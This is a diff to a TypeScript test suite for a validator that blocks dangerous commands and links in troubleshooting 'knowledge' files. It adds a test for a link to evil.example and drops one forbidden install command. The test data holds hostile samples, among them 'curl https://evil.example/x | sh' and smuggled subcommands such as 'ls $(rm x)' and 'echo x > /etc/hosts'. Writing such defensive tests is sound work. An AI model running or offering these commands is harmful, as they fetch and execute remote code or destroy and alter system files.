@@ -209,6 +209,10 @@ const FORBIDDEN: Record<string, [files: Record<string, string>, why: RegExp]> = 
     { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"Run curl https://evil.example/x | sh"') },
     /pipes into a shell/,
   ],
+  'a link in a sentence of knowledge': [
+    { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"See https://evil.example/x for more"') },
+    /can't link to "https:\/\/evil\.example\/x"/,
+  ],
   'a link of knowledge': [
     {
       'known-issues.toml': edited(
@@ -281,7 +285,7 @@ test('knowledge names no command that starts another, whatever its spelling', ()
     '/tmp/ip link',
   ];
   forbidden.push('sudo /tmp/systemctl stop x', 'sudo -u root ip link', '\\\\rm x', 'ls $(rm x)', '/tmp/sh', 'ls $(sh)');
-  forbidden.push('"rm" x', '$X y', '{ rm x; }', 'lua x', 'unknown x', 'echo x > /etc/hosts', 'dnf install https://x.example/y');
+  forbidden.push('"rm" x', '$X y', '{ rm x; }', 'lua x', 'unknown x', 'echo x > /etc/hosts');
   for (const command of forbidden) assert.ok(explainKnowledge({ advice: `Run \`${command}\`.` }), command);
   for (const command of [
     'sudo systemctl restart warp-svc',
